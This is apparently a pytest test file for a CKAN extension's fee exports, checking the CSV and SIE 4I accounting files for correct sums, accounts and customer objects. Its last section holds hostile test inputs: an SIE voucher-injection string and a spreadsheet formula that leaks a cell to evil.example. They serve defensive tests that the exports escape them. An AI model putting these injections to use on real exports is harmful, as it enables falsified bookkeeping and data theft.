"""The files finance books from (issue 20, SPEC 2026-11-29), for a month with every kind of
line (access, regional, connection, expert by the hour and at a fixed price, adjustment):

- the CSV: one row per line with that line's amount only, one marked total row per
  statement; the line rows' amounts sum to the month's net, the total rows' to its net,
  VAT and total; unit prices with two decimals; a connection names its quote, an expert
  line its call-off and period; Swedish Excel's dialect (``;``, decimal comma, BOM);
- the SIE 4I file, read by a strict reader written from the SIE 4 specification
  (tests/sie4.py, not the writer's code): every voucher balances, each kind of line is
  booked on its own account, the customer is an object of dimension 8 on every row; no
  voucher for a statement without lines; the three-account setting still works; a
  wrong account setting stops the close, naming the setting, and nothing is written."""
from __future__ import annotations

import base64
import csv
import io
from decimal import Decimal

import pytest

import ckan.model as model
import ckan.plugins.toolkit as tk
from ckan.tests import factories

from ckanext.vgsamverkan.model import FeeFile, FeeMonth
from tests import sie4
from tests.conftest import kept_with
from tests.factories import call, participant_org
from tests.fees.test_fee_actions import MONTH, _expert_work, build_world, world  # noqa: F401 (world: the fixture, used by name)

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db")

PER_KIND = ["access=3011", "regional=3012", "connection=3013", "expert=3014", "adjustment=3015"]


@pytest.fixture
def every_kind(coordinator):
    return kept_with(coordinator, ("test_fee_export.every_kind",), lambda: build_every_kind(coordinator))


def build_every_kind(coordinator):
    """``build_world``'s participants with a line of every kind in MONTH, run."""
    base = build_world(coordinator)
    gbg, harryda, region = base["orgs"]["goteborg"], base["orgs"]["harryda"], base["orgs"]["region"]
    admins = base["admins"]
    hourly = _expert_work(coordinator, admins["goteborg"], gbg, hourly_rate="950.01")
    call("vgsamverkan_calloff_log_time", coordinator, id=hourly["id"], date="2026-10-05", hours="2")
    call("vgsamverkan_calloff_log_time", coordinator, id=hourly["id"], date="2026-10-06", hours="0.25")
    fixed = _expert_work(coordinator, admins["harryda"], harryda, fixed_price="12000")
    call("vgsamverkan_calloff_deliver", coordinator, id=fixed["id"], delivered_date="2026-10-30")  # no hours
    for sets in ("Kartor", "Bygglov"):  # two connections at the same price: told apart by their quotes
        c = call("vgsamverkan_connection_create", admins["harryda"], organization_id=harryda["id"],
                 information_sets=sets, technical_contact="T")
        call("vgsamverkan_connection_investigate", coordinator, id=c["id"], investigator="I")
        call("vgsamverkan_connection_quote", coordinator, id=c["id"], solution="S", effort_hours="10",
             price="6400", valid_until="2099-01-01")
        call("vgsamverkan_connection_accept", admins["harryda"], id=c["id"])
        call("vgsamverkan_connection_complete", coordinator, id=c["id"], connected_date="2026-10-21")
    call("vgsamverkan_fee_adjust", coordinator, organization_id=region["id"], month=MONTH, amount="-9000",
         reason='Kreditering "större" än avgiften')
    call("vgsamverkan_fee_run", coordinator, month=MONTH)
    statements = call("vgsamverkan_fee_statement_list", coordinator, month=MONTH, limit=100)["results"]
    assert {line["kind"] for s in statements for line in s["lines"]} == {
        "access", "regional", "connection", "expert", "adjustment"}
    return {"statements": statements, "hourly": hourly, "fixed": fixed, **base}


def _export(coordinator, fmt: str, month: str = MONTH) -> bytes:
    return base64.b64decode(call("vgsamverkan_fee_export", coordinator, month=month, format=fmt)["content_base64"])


def _ore(text: str) -> int:
    return int((Decimal(text.replace(",", ".")) * 100).to_integral_value())


class TestCsv:
    def test_line_rows_sum_to_the_net_and_each_statement_has_one_total_row(self, every_kind, coordinator):
        data = _export(coordinator, "csv")
        assert data.startswith(b"\xef\xbb\xbf")
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
        statements = every_kind["statements"]
        lines = [r for r in rows if r["Radtyp"] == "Rad"]
        totals = [r for r in rows if r["Radtyp"] == "Summa"]
        assert len(lines) == sum(len(s["lines"]) for s in statements) and len(totals) == len(statements)
        assert {r["Radtyp"] for r in rows} == {"Rad", "Summa"}
        month_net = sum(_ore(s["net"]) for s in statements)
        assert sum(_ore(r["Belopp"]) for r in lines) == month_net  # summing the column gives the net
        assert all(r["Netto"] == r["Moms"] == r["Totalt"] == "" for r in lines)  # nothing repeated
        assert all(r["Belopp"] == "" for r in totals)
        assert sum(_ore(r["Netto"]) for r in totals) == month_net
        assert sum(_ore(r["Totalt"]) for r in totals) == sum(_ore(s["total"]) for s in statements)
        for r in lines:
            if r["À-pris"]:
                assert "," in r["À-pris"] and len(r["À-pris"].split(",")[1]) == 2, r
        connection = sorted(r["Referens"] for r in lines if r["Typ"] == "Anslutning")
        assert len(connection) == 2 and connection[0] != connection[1]
        assert all(ref.startswith("Offert ") for ref in connection)
        assert any("Bygglov" in ref for ref in connection) and any("Kartor" in ref for ref in connection)
        hourly = next(r for r in lines if r["Typ"] == "Expertstöd" and r["Enhet"] == "timmar")
        assert every_kind["hourly"]["id"][:8] in hourly["Referens"] and "2026-10-05–2026-10-06" in hourly["Referens"]
        fixed = next(r for r in lines if r["Typ"] == "Expertstöd" and r["Enhet"] != "timmar")
        assert "2026-10-30" in fixed["Referens"] and fixed["Belopp"] == "12000,00"


class TestSie:
    def test_each_kind_on_its_account_with_the_customer_on_every_row(self, every_kind, coordinator, ckan_config,
                                                                     monkeypatch):
        monkeypatch.setitem(ckan_config, "ckanext.vgsamverkan.sie_revenue_accounts", PER_KIND)
        sie = sie4.parse(_export(coordinator, "sie"))
        assert sie.items["#FORMAT"] == ["PC8"] and sie.items["#SIETYP"] == ["4"]
        assert sie.dimensions == {"8": "Kund"}
        statements = every_kind["statements"]
        assert len(sie.vouchers) == len(statements)
        account = {"access": "3011", "regional": "3012", "connection": "3013", "expert": "3014",
                   "adjustment": "3015"}
        for st in statements:
            key = str(st["customer_number"])  # SPEC 2026-12-07: objects by customer number
            assert sie.objects[("8", key)] == st["organization_title"]
            voucher = next(v for v in sie.vouchers if v.text.endswith(
                st["organization_title"].encode("cp437", "replace").decode("cp437")))
            assert voucher.date == "20261031"
            assert all(t.objects == [("8", key)] for t in voucher.trans)  # the customer on every row
            booked = {t.account: int(t.amount * 100) for t in voucher.trans}
            assert booked["1510"] == _ore(st["total"]) and -booked["2611"] == _ore(st["vat"])
            by_kind: dict[str, int] = {}
            for line in st["lines"]:
                by_kind[line["kind"]] = by_kind.get(line["kind"], 0) + _ore(line["amount"])
            for kind, amount in by_kind.items():
                assert -booked[account[kind]] == amount, (kind, st["organization_title"])
            assert "3010" not in booked
        region = next(s for s in statements if s["organization_id"] == every_kind["orgs"]["region"]["id"])
        assert region["net"] == "-4000.00"  # a credit note balances too (the strict reader checked it)

    def test_the_three_account_setting_still_works(self, every_kind, coordinator, ckan_config, monkeypatch):
        monkeypatch.setitem(ckan_config, "ckanext.vgsamverkan.sie_accounts", ["1511", "3011", "2612"])
        sie = sie4.parse(_export(coordinator, "sie"))
        assert set(sie.accounts) == {"1511", "3011", "2612"}
        for voucher, st in zip(sorted(sie.vouchers, key=lambda v: v.text),
                               sorted(every_kind["statements"], key=lambda s: f"Avgifter {MONTH}: "
                                      + s["organization_title"].encode("cp437", "replace").decode("cp437")),
                               strict=True):
            revenue = sum(int(t.amount * 100) for t in voucher.trans if t.account == "3011")
            assert -revenue == _ore(st["net"])

    def test_no_regional_line_nor_voucher_when_the_fixed_amount_is_zero(self, coordinator):
        call("vgsamverkan_fee_schedule_set", coordinator, valid_from="2026-01", total="1000.00")  # regional 0
        region = participant_org(factories.User(), coordinator, effective_from="2026-01-01",
                                 org_type="regional_forvaltning", municipality_code="")
        kommun = participant_org(factories.User(), coordinator, effective_from="2026-01-01", municipality_code="1401")
        run = call("vgsamverkan_fee_run", coordinator, month=MONTH)
        assert [s["organization_id"] for s in run["statements"]] == [kommun["id"]]
        with pytest.raises(tk.ObjectNotFound):
            call("vgsamverkan_fee_statement_show", coordinator, organization_id=region["id"], month=MONTH)
        sie = sie4.parse(_export(coordinator, "sie"))
        assert len(sie.vouchers) == 1 and all(t.amount for t in sie.vouchers[0].trans)

    def test_the_contracts_spelling_of_sie_accounts(self, every_kind, coordinator, ckan_config, monkeypatch):
        """Issue 36, part 7: ``1510 3010 2611 access=3011 expert=3014`` (SPEC) was read as
        three accounts, the rest silently ignored: everything on 3010."""
        monkeypatch.setitem(ckan_config, "ckanext.vgsamverkan.sie_accounts",
                            ["1510", "3010", "2611", "access=3011", "expert=3014"])
        sie = sie4.parse(_export(coordinator, "sie"))
        booked: dict[str, int] = {}
        for voucher in sie.vouchers:
            for t in voucher.trans:
                booked[t.account] = booked.get(t.account, 0) + int(t.amount * 100)
        lines = [line for st in every_kind["statements"] for line in st["lines"]]
        assert -booked["3011"] == sum(_ore(line["amount"]) for line in lines if line["kind"] == "access")
        assert -booked["3014"] == sum(_ore(line["amount"]) for line in lines if line["kind"] == "expert")
        assert -booked["3010"] == sum(_ore(line["amount"]) for line in lines
                                      if line["kind"] not in ("access", "expert"))

    @pytest.mark.parametrize("setting,value", [
        ("sie_revenue_accounts", ["expert=30x4"]), ("sie_revenue_accounts", ["konsult=3014"]),
        ("sie_revenue_accounts", ["3014"]), ("sie_accounts", ["15l0", "3010", "2611"]),
        ("sie_accounts", ["1510", "3010", "2611", "3099"]), ("sie_accounts", ["1510", "3010", "2611", "moms=2611"]),
        ("sie_accounts", ["1510", "3010", "2611", "expert=3014", "expert=3015"]),
        ("sie_accounts", ["1510", "3010", "access=3011", "2611"]),
    ])
    def test_a_wrong_account_setting_stops_the_close_and_writes_nothing(self, every_kind, coordinator, ckan_config,
                                                                       monkeypatch, setting, value):
        monkeypatch.setitem(ckan_config, f"ckanext.vgsamverkan.{setting}", value)
        with pytest.raises(tk.ValidationError) as e:
            call("vgsamverkan_fee_close", coordinator, month=MONTH)
        assert f"ckanext.vgsamverkan.{setting}" in str(e.value.error_dict["sie_accounts"])
        model.Session.expire_all()
        assert model.Session.get(FeeMonth, MONTH).state == "open"
        assert model.Session.query(FeeFile).filter_by(month=MONTH).count() == 0
        with pytest.raises(tk.ValidationError):
            _export(coordinator, "sie")


class TestTheReader:
    """The strict reader must be able to say no, or its yes means nothing."""

    GOOD = ('#FLAGGA 0\r\n#FORMAT PC8\r\n#SIETYP 4\r\n#PROGRAM "p" "1"\r\n#GEN 20261130\r\n#FNAMN "F"\r\n'
            '#KONTO 1510 "K"\r\n#KONTO 3010 "I"\r\n#DIM 8 "Kund"\r\n#OBJEKT 8 "5560000000" "AB"\r\n'
            '#VER "" "" 20261031 "V"\r\n{\r\n   #TRANS 1510 {8 "5560000000"} 100.00\r\n'
            '   #TRANS 3010 {8 "5560000000"} -100.00\r\n}\r\n')

    def test_a_good_file(self):
        sie = sie4.parse(self.GOOD.encode("cp437"))
        assert len(sie.vouchers) == 1 and sie.vouchers[0].trans[0].objects == [("8", "5560000000")]

    @pytest.mark.parametrize("broken,says", [
        (("-100.00", "-99.99"), "does not balance"),
        (('{8 "5560000000"} -100', '{8 "5560000001"} -100'), "undeclared object"),
        (("#TRANS 3010", "#TRANS 3011"), "undeclared account"),
        (("20261031", "20261131"), "no such day"),
        (("100.00", "100,00"), "not an amount"),
        (("#FORMAT PC8", "#FORMAT UTF8"), "PC8"),
        (("#FLAGGA 0\r\n", ""), "first record"),
        (("}\r\n", ""), "ends inside a voucher"),
        (('#DIM 8 "Kund"', '#DIM 108 "Kund"'), "dimension"),
        (('"V"', '"V'), "not closed"),
    ])
    def test_a_broken_file_is_refused(self, broken, says):
        with pytest.raises(sie4.SieError, match=says):
            sie4.parse(self.GOOD.replace(*broken, 1).encode("cp437"))


class TestAdjustmentsNameTheMonthTheyCorrect:
    def test_the_line_names_the_month_corrected(self, world, coordinator):  # noqa: F811
        gbg = world["orgs"]["goteborg"]
        a = call("vgsamverkan_fee_adjust", coordinator, organization_id=gbg["id"], month=MONTH, amount="-100",
                 reason="Avbrott", corrects="2026-08")
        assert a["corrects"] == "2026-08"
        default = call("vgsamverkan_fee_adjust", coordinator, organization_id=gbg["id"], month=MONTH, amount="50",
                       reason="Tillägg")
        assert default["corrects"] == "2026-09"  # the month before, when not named
        call("vgsamverkan_fee_run", coordinator, month=MONTH)
        st = call("vgsamverkan_fee_statement_show", coordinator, organization_id=gbg["id"], month=MONTH)
        texts = [line["text_kept"] for line in st["lines"] if line["kind"] == "adjustment"]
        assert sorted(texts) == ["Justering av 2026-08: Avbrott", "Justering av 2026-09: Tillägg"]

    @pytest.mark.parametrize("corrects", ["2026-10", "2026-11", "2027-01", "oktober", "2026-13", ""])
    def test_not_into_the_month_it_corrects_nor_an_earlier_one(self, world, coordinator, corrects):  # noqa: F811
        from ckanext.vgsamverkan.model import FeeAdjustment

        with pytest.raises(tk.ValidationError) as e:
            call("vgsamverkan_fee_adjust", coordinator, organization_id=world["orgs"]["goteborg"]["id"], month=MONTH,
                 amount="-100", reason="Fel", corrects=corrects)
        assert "corrects" in e.value.error_dict
        assert model.Session.query(FeeAdjustment).filter_by(month=MONTH).count() == 0


class TestUnbilledMonths:
    def test_the_workplace_lists_months_with_money_not_on_their_statements(self, world, coordinator):  # noqa: F811
        admins, gbg = world["admins"], world["orgs"]["goteborg"]
        hourly = _expert_work(coordinator, admins["goteborg"], gbg, hourly_rate="1000")
        call("vgsamverkan_calloff_log_time", coordinator, id=hourly["id"], date="2026-09-10", hours="1")
        unbilled = {m["month"]: m for m in call("vgsamverkan_dashboard_show", coordinator)["unbilled"]}
        assert unbilled["2026-09"]["items"] == 1 and unbilled["2026-09"]["run_at"] is None  # never run
        call("vgsamverkan_fee_run", coordinator, month="2026-09")
        assert "2026-09" not in {m["month"] for m in call("vgsamverkan_dashboard_show", coordinator)["unbilled"]}
        call("vgsamverkan_calloff_log_time", coordinator, id=hourly["id"], date="2026-09-11", hours="2")
        [again] = [m for m in call("vgsamverkan_dashboard_show", coordinator)["unbilled"] if m["month"] == "2026-09"]
        assert again["items"] == 1 and again["run_at"]  # added since the run
        call("vgsamverkan_fee_run", coordinator, month="2026-09")
        call("vgsamverkan_fee_close", coordinator, month="2026-09")
        assert "2026-09" not in {m["month"] for m in call("vgsamverkan_dashboard_show", coordinator)["unbilled"]}

    def test_the_page_shows_them(self, world, coordinator, app):  # noqa: F811
        from tests.browser import Browser, as_user

        hourly = _expert_work(coordinator, world["admins"]["goteborg"], world["orgs"]["goteborg"],
                              hourly_rate="1000")
        call("vgsamverkan_calloff_log_time", coordinator, id=hourly["id"], date="2026-09-10", hours="1")
        page = Browser(app).get("/ckan-admin/samverkan", extra_environ=as_user(coordinator)).body
        assert 'id="vgs-unbilled"' in page and "/ckan-admin/samverkan/avgifter/2026-09" in page


# -- text people typed never changes a file's structure (issue 36) -----------------------

HOSTILE = [
    'Härryda "C" \\ }\r\n#TRANS 1510 {} 999999.00 20250630 "injected"\r\n{',  # a voucher row of its own
    '=HYPERLINK("http://evil.example/?leak="&C2,"Klicka")', "@SUM(1)", "+SUM(1+1)", "-1+1", "\tTabb",
    "\rRetur", "Rad\u2028skiftad", "Nul\x00byte",
]


def _statement(i: int, title: str) -> dict:
    return {"month": "2026-10", "organization_title": title, "organization_name": f"org-{i}",
            "org_number": f"21200000{i:02d}", "invoice_reference": title, "net": "-100.00", "vat": "-25.00",
            "total": "-125.00",
            "lines": [{"kind": "adjustment", "text": title, "quantity": None, "unit": None, "unit_price": None,
                       "amount": "-100.00", "reference": {"type": "adjustment", "id": title}, "details": {}}]}


class TestTextPeopleTyped:
    def test_the_sie_file_has_one_voucher_per_statement_whatever_the_names(self):
        from ckanext.vgsamverkan.fees.export import to_sie

        statements = [_statement(i, title) for i, title in enumerate(HOSTILE)]
        data = to_sie("2026-10", statements, accounts=["1510", "3010", "2611"], company='Bolag "X" \\\r\n#VER',
                      org_number="2120000142", generated="20261101")
        sie = sie4.parse(data)  # the strict reader: every record where the specification puts it
        assert len(sie.vouchers) == len(statements)
        assert all(len(v.trans) == 3 for v in sie.vouchers)  # receivable, revenue, VAT: nothing injected
        assert len(sie.objects) == len(statements)
        assert not any(t.amount == Decimal("999999.00") for v in sie.vouchers for t in v.trans)
        assert b"\r\n#TRANS 1510 {} 999999" not in data and data.count(b"\r\n#VER ") == len(statements)
        first = next(v for v in sie.vouchers if "Härryda" in v.text)
        assert '"C" \\ }' in first.text and "#TRANS 1510 {} 999999.00" in first.text  # kept, on one line

    def test_the_csv_has_its_rows_and_no_cell_a_spreadsheet_reads_as_a_formula(self):
        from ckanext.vgsamverkan.fees.export import to_csv

        statements = [_statement(i, title) for i, title in enumerate(HOSTILE)]
        rows = list(csv.DictReader(io.StringIO(to_csv(statements).decode("utf-8-sig")), delimiter=";"))
        assert len(rows) == 2 * len(statements)  # one line row and one total row each
        for row in rows:
            for column in ("Organisation", "Fakturareferens", "Text", "Referens"):
                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
        by_title = {r["Organisation"]: r for r in rows if r["Radtyp"] == "Rad"}
        assert "'=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"Klicka\")" in by_title
        assert "'-1+1" in by_title and "'@SUM(1)" in by_title
        assert {r["Belopp"] for r in rows if r["Radtyp"] == "Rad"} == {"-100,00"}  # numbers stay numbers
        assert {r["Totalt"] for r in rows if r["Radtyp"] == "Summa"} == {"-125,00"}
